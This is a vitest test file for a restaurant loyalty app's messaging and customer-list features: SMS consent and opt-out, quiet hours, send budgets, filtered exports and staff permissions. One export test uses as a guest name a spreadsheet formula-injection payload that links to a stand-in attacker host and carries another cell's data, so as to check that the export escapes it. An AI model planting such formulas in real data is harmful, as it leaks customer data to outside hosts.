import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import ExcelJS from 'exceljs';
import type { FastifyBaseLogger } from 'fastify';
import { customerCalls as c } from '@sofra/contracts/customers/customers.calls';
import { pointCalls } from '@sofra/contracts/loyalty/points.calls';
import { storeCalls } from '@sofra/contracts/stores/stores.calls';
import { createLogSms } from '../../platform/sms/log-driver.ts';
import type { SmsDriver } from '../../platform/sms/sms-driver.ts';
import { buildTestApp, freshGsm, type TestApp } from '../../../test/build-app.ts';
import { newStore, type Session } from '../../../test/factories.ts';
import { staffWith } from '../../../test/live.ts';
import { maskGsm } from './customers.service.ts';
import { messageRules, sendDueMessages } from './messages.service.ts';

let t: TestApp;
let fileSms: SmsDriver;
/** The app's clock (`services.now`): the store's hour a test sets (e.g. 22:00 for the quiet hours); real time without. */
let clock: Date | null = null;
const quiet = { info: () => undefined } as unknown as FastifyBaseLogger;
beforeAll(async () => {
  // Every SMS goes to the test outbox (the sign-in codes) and to DATA_DIR/sms-outbox.jsonl, as the log driver writes it.
  t = await buildTestApp({
    sms: {
      name: 'log+memory',
      send: async (m) => {
        t.outbox.push(m);
        await fileSms.send(m);
      },
    },
    services: { now: () => clock ?? new Date() },
  });
  fileSms = createLogSms(t.config.dataDir, quiet);
});
afterAll(async () => t.close());
afterEach(() => {
  clock = null;
});

/** Istanbul is UTC+3: a date far ahead, so the app's own minute sweep (real clock) never finds these messages due. */
const istanbul = (day: string, hm: string) => new Date(`${day}T${hm}:00+03:00`);
const at = (d: Date) => {
  clock = d;
};
/** SMS lines in sms-outbox.jsonl to one number. */
const smsLinesTo = (gsm: string) => {
  const file = join(t.config.dataDir, 'sms-outbox.jsonl');
  if (!existsSync(file)) return [];
  return readFileSync(file, 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((l) => JSON.parse(l) as { to: string; text: string })
    .filter((l) => l.to === gsm);
};
const shopOf = async () => {
  const owner = await t.signIn();
  const store = await t.call(owner.token, storeCalls.saveStore, newStore());
  return { owner, store };
};
const guestOf = async (owner: Session, storeId: string, name: string, sms: boolean) => {
  const gsm = freshGsm();
  const guest = await t.call(owner.token, c.createVirtualUser, { storeId, name, gsm });
  if (sms) await t.call(owner.token, c.recordConsent, { storeId, userId: guest.id, channel: 'sms', value: true });
  return { ...guest, e164: gsm };
};

describe('messages', () => {
  test('a guest with sms: false gets no SMS; the one who consents gets it with an opt-out link that works', async () => {
    at(istanbul('2031-03-10', '14:00'));
    const { owner, store } = await shopOf();
    const yes = await guestOf(owner, store.id, 'Ayşe Evet', true);
    const no = await guestOf(owner, store.id, 'Burak Hayır', false);
    expect(
      await t.call(owner.token, c.countMessageAudience, { storeId: store.id, segment: 'all', channel: 'sms' }),
    ).toEqual({ segmentSize: 2, reached: 1, budgetLeft: messageRules.smsPerStorePerDay, quietHours: false });

    const sent = await t.call(owner.token, c.sendMessage, {
      storeId: store.id,
      segment: 'all',
      channel: 'sms',
      text: 'Bu hafta tatlılar bizden!',
    });
    expect(sent).toMatchObject({ status: 'sent', audience: 1, sent: 1 });
    const toYes = smsLinesTo(yes.e164);
    expect(toYes).toHaveLength(1);
    expect(smsLinesTo(no.e164)).toHaveLength(0);
    expect(toYes[0]!.text).toMatch(/^Bu hafta tatlılar bizden!\nSMS almamak için .*\/o\/[\w-]{12}$/);

    // The opt-out link turns SMS consent off (without signing in); the permission log keeps both changes.
    const token = /\/o\/([\w-]+)$/.exec(toYes[0]!.text)![1]!;
    at(istanbul('2031-03-10', '14:05'));
    expect(await t.call(null, c.optOut, { token })).toEqual({ storeName: store.name, sms: false });
    expect(await t.call(null, c.optOut, { token })).toEqual({ storeName: store.name, sms: false });
    expect((await t.raw(null, c.optOut, { token: 'nope-nope-nope' })).json()).toMatchObject({ code: 'not_found' });
    const log = await t.call(owner.token, c.getPermissionLog, { storeId: store.id, userId: yes.id });
    expect(log.map((l) => [l.source, l.channel, l.value, l.byStaff])).toEqual([
      ['sms-opt-out', 'sms', false, false],
      ['staff-spoken', 'sms', true, true],
    ]);

    // A second message reaches nobody: no new line for either.
    const again = await t.call(owner.token, c.sendMessage, {
      storeId: store.id,
      segment: 'all',
      channel: 'sms',
      text: 'İkinci mesaj',
    });
    expect(again).toMatchObject({ status: 'sent', audience: 0, sent: 0 });
    expect(smsLinesTo(yes.e164)).toHaveLength(1);
    expect(smsLinesTo(no.e164)).toHaveLength(0);
  });

  test('a message at 22:00 store time is queued, not sent; the 09:00 sweep sends it (08:59 does not)', async () => {
    at(istanbul('2031-03-11', '12:00'));
    const { owner, store } = await shopOf();
    const guest = await guestOf(owner, store.id, 'Cem Gece', true);
    at(istanbul('2031-03-11', '22:00'));
    expect(
      await t.call(owner.token, c.countMessageAudience, { storeId: store.id, segment: 'new', channel: 'sms' }),
    ).toMatchObject({ reached: 1, quietHours: true });
    const queued = await t.call(owner.token, c.sendMessage, {
      storeId: store.id,
      segment: 'new',
      channel: 'sms',
      text: 'Yarın kahvaltı %20 indirimli',
    });
    expect(queued).toMatchObject({
      status: 'queued',
      audience: 1,
      sent: 0,
      sendAfter: istanbul('2031-03-12', '09:00').toISOString(),
    });
    expect(smsLinesTo(guest.e164)).toHaveLength(0);
    const db = await t.db();
    expect(await sendDueMessages(db, t.app.services, istanbul('2031-03-12', '02:00'))).toBe(0);
    expect(await sendDueMessages(db, t.app.services, istanbul('2031-03-12', '08:59'))).toBe(0);
    expect(smsLinesTo(guest.e164)).toHaveLength(0);
    expect(await sendDueMessages(db, t.app.services, istanbul('2031-03-12', '09:00'))).toBeGreaterThanOrEqual(1);
    expect(smsLinesTo(guest.e164)).toHaveLength(1);
    // Swept once: a later sweep sends nothing more.
    await sendDueMessages(db, t.app.services, istanbul('2031-03-12', '09:05'));
    expect(smsLinesTo(guest.e164)).toHaveLength(1);
  });

  test("a guest who turns SMS off before the 09:00 sweep is skipped; push needs a device; the day's budget holds", async () => {
    at(istanbul('2031-03-13', '23:30'));
    const { owner, store } = await shopOf();
    const a = await guestOf(owner, store.id, 'Deniz', true);
    const b = await guestOf(owner, store.id, 'Ece', true);
    await t.call(owner.token, c.sendMessage, { storeId: store.id, segment: 'all', channel: 'sms', text: 'Sabah' });
    await t.call(owner.token, c.recordConsent, { storeId: store.id, userId: b.id, channel: 'sms', value: false });
    await sendDueMessages(await t.db(), t.app.services, istanbul('2031-03-14', '09:00'));
    expect(smsLinesTo(a.e164)).toHaveLength(1);
    expect(smsLinesTo(b.e164)).toHaveLength(0);

    // Push: consent is off for virtual guests, and none has a device.
    await t.call(owner.token, c.recordConsent, { storeId: store.id, userId: a.id, channel: 'push', value: true });
    at(istanbul('2031-03-14', '12:00'));
    expect(
      await t.call(owner.token, c.countMessageAudience, { storeId: store.id, segment: 'all', channel: 'push' }),
    ).toMatchObject({ segmentSize: 2, reached: 0, budgetLeft: null });

    // The budget: 1 SMS left today; a message reaching 2 is refused whole.
    await t.call(owner.token, c.recordConsent, { storeId: store.id, userId: b.id, channel: 'sms', value: true });
    const saved = messageRules.smsPerStorePerDay;
    messageRules.smsPerStorePerDay = 2;
    try {
      const refused = await t.raw(owner.token, c.sendMessage, {
        storeId: store.id,
        segment: 'all',
        channel: 'sms',
        text: 'Çok',
      });
      expect(refused.statusCode).toBe(429);
      expect(refused.json()).toMatchObject({ code: 'sms_limit' });
      expect(smsLinesTo(b.e164)).toHaveLength(0);
    } finally {
      messageRules.smsPerStorePerDay = saved;
    }
  });
});

describe('customer list', () => {
  test("a guest's name that a spreadsheet would run as a formula is exported as text behind a quote; numbers keep their look", async () => {
    const { owner, store } = await shopOf();
    const link = '=HYPERLINK("https://evil.example/?"&B2,"Ayşe")';
    await guestOf(owner, store.id, link, false);
    const xlsx = await t.raw(owner.token, c.exportUserReport, { storeId: store.id, language: 'en' });
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const row = book.getWorksheet('Customers')!.getRow(2);
    expect(row.getCell(1).value).toBe(`'${link}`);
    expect(row.getCell(1).type).toBe(ExcelJS.ValueType.String);
    // The phone number (a sign and digits only) stays as the screen shows it.
    expect(row.getCell(2).value).toMatch(/^\+90 \d{3} \d{3} \d{2} \d{2}$/);
    expect(row.getCell(3).value).toBe(1);
  });

  test('filters by segment (lapsed), last visit and search; exports; staff without customers.view are refused', async () => {
    at(istanbul('2031-01-01', '12:00'));
    const { owner, store } = await shopOf();
    const old = await guestOf(owner, store.id, 'Eski Misafir', false);
    at(istanbul('2031-03-01', '12:00'));
    const recent = await guestOf(owner, store.id, 'Yeni Misafir', true);
    at(istanbul('2031-03-05', '12:00'));

    const page = await t.call(owner.token, c.getUserReport, { storeId: store.id });
    expect(page.total).toBe(2);
    expect(page.items.map((r) => r.name)).toEqual(['Yeni Misafir', 'Eski Misafir']);
    expect(page.items[0]).toMatchObject({
      visits: 1,
      spend: 0,
      isVirtual: true,
      gsmMasked: false,
      segments: ['new'],
      consents: { sms: true, push: false, email: false, phone: false },
    });
    expect(page.items[0]!.gsm).toMatch(/^\+90 \d{3} \d{3} \d{2} \d{2}$/);

    const lapsed = await t.call(owner.token, c.getUserReport, { storeId: store.id, segment: 'lapsed' });
    expect(lapsed.items.map((r) => [r.userId, r.segments])).toEqual([[old.id, ['lapsed']]]);
    const byDay = await t.call(owner.token, c.getUserReport, {
      storeId: store.id,
      lastVisitFrom: '2031-03-01',
      lastVisitTo: '2031-03-01',
    });
    expect(byDay.items.map((r) => r.userId)).toEqual([recent.id]);
    const bySearch = await t.call(owner.token, c.getUserReport, { storeId: store.id, search: 'eski' });
    expect(bySearch.items.map((r) => r.userId)).toEqual([old.id]);
    expect(
      (
        await t.raw(owner.token, c.getUserReport, {
          storeId: store.id,
          lastVisitFrom: '2031-03-02',
          lastVisitTo: '2031-03-01',
        })
      ).json(),
    ).toMatchObject({ code: 'validation_failed' });

    const xlsx = await t.raw(owner.token, c.exportUserReport, { storeId: store.id, segment: 'lapsed', language: 'tr' });
    expect(xlsx.statusCode).toBe(200);
    expect(xlsx.headers['content-type']).toContain('spreadsheetml');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const sheet = book.getWorksheet('Customers')!;
    expect(sheet.getRow(1).getCell(1).value).toBe('Ad');
    expect(sheet.rowCount).toBe(2);
    expect(sheet.getRow(2).getCell(1).value).toBe('Eski Misafir');
    expect(sheet.getRow(2).getCell(8).value).toBe('Uzaklaşan');

    // Staff: without customers.view every call is refused; with it they see the list (numbers in full).
    const waiter = await staffWith(t, owner, store.id, ['store.view', 'folios.view']);
    for (const [call, body] of [
      [c.getUserReport, { storeId: store.id }],
      [c.exportUserReport, { storeId: store.id }],
      [c.countMessageAudience, { storeId: store.id, segment: 'all', channel: 'sms' }],
      [c.sendMessage, { storeId: store.id, segment: 'all', channel: 'sms', text: 'x' }],
      [c.createVirtualUser, { storeId: store.id, name: 'X', gsm: freshGsm() }],
      [c.recordConsent, { storeId: store.id, userId: old.id, channel: 'sms', value: true }],
      [c.getPermissionLog, { storeId: store.id, userId: old.id }],
    ] as const) {
      const res = await t.raw(waiter.token, call, body);
      expect(res.statusCode, call.path).toBe(403);
      expect(res.json()).toMatchObject({ code: 'store_forbidden' });
    }
    const manager = await staffWith(t, owner, store.id, ['store.view', 'customers.view']);
    // Staff holding customers.view see the number in full, as the owner does.
    expect((await t.call(manager.token, c.getUserReport, { storeId: store.id })).items[0]).toMatchObject({
      gsmMasked: false,
      gsm: expect.stringMatching(/^\+90 \d{3} \d{3} \d{2} \d{2}$/),
    });

    // A guest of another store cannot have consent recorded here.
    const other = await shopOf();
    const stranger = await guestOf(other.owner, other.store.id, 'Başka', false);
    expect(
      (
        await t.raw(owner.token, c.recordConsent, {
          storeId: store.id,
          userId: stranger.id,
          channel: 'sms',
          value: true,
        })
      ).json(),
    ).toMatchObject({ code: 'user_not_found' });
  });

  test("each row carries the guest's points balance in the store's chain; another store's balance is not this one's", async () => {
    at(istanbul('2031-04-01', '12:00'));
    const { owner, store } = await shopOf();
    const rich = await guestOf(owner, store.id, 'Puanlı Misafir', false);
    const plain = await guestOf(owner, store.id, 'Puansız Misafir', false);
    await t.call(owner.token, pointCalls.addPoint, {
      storeId: store.id,
      userId: rich.id,
      points: 150,
      reason: 'Hoş geldin',
    });
    await t.call(owner.token, pointCalls.addPoint, {
      storeId: store.id,
      userId: rich.id,
      points: -30,
      reason: 'İkram',
    });
    const page = await t.call(owner.token, c.getUserReport, { storeId: store.id });
    expect(Object.fromEntries(page.items.map((r) => [r.userId, r.points]))).toEqual({ [rich.id]: 120, [plain.id]: 0 });

    // The same guest at a store outside the chain: that store's balance (none), not this one's.
    const other = await shopOf();
    await t.call(other.owner.token, c.createVirtualUser, { storeId: other.store.id, name: 'Puanlı', gsm: rich.e164 });
    const there = await t.call(other.owner.token, c.getUserReport, { storeId: other.store.id });
    expect(there.items.map((r) => [r.userId, r.points])).toEqual([[rich.id, 0]]);
  });

  test('a guest changes their own consent (logged) and sees their places', async () => {
    const { owner, store } = await shopOf();
    const guest = await t.signIn();
    // The owner records the signed-in guest as met at the counter: the number is theirs, so it is the same user.
    await t.call(owner.token, c.createVirtualUser, { storeId: store.id, name: 'Kayıtlı', gsm: guest.gsm });
    const places = await t.call(guest.token, c.myPlaces, {});
    expect(places).toEqual([
      expect.objectContaining({ storeId: store.id, storeName: store.name, visits: 1, spend: 0 }),
    ]);
    await t.call(guest.token, c.setMyConsent, { channel: 'email', value: true });
    const answer = await t.call(guest.token, c.setMyConsent, { channel: 'email', value: false });
    expect(answer).toEqual({ userId: guest.userId, consents: expect.objectContaining({ email: false }) });
    const log = await t.call(owner.token, c.getPermissionLog, { storeId: store.id, userId: guest.userId });
    expect(log[0]).toMatchObject({ source: 'app', channel: 'email', value: false, byStaff: false });
    expect(maskGsm('+905551234512')).toBe('+90 555 *** ** 12');
  });
});
